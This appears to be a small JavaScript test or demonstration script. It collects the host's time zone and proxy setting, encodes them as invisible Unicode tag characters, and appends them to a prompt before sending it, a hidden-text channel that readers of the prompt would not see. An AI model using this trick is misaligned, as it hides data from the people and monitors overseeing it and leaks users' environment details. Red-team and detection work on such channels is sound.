// Hides what it learned as Unicode tag characters (U+E0020-U+E007E mirror
// printable ASCII and render as nothing), appended to the prompt.
import { gatherFacts, request, send, PROMPT } from "./lib.mjs";

const facts = gatherFacts();
const secret = `tz=${facts.timeZone};proxy=${facts.proxy || "none"}`;
let tags = "";
for (const ch of secret) tags += String.fromCodePoint(0xe0000 + ch.charCodeAt(0));
await send(request(PROMPT + tags));
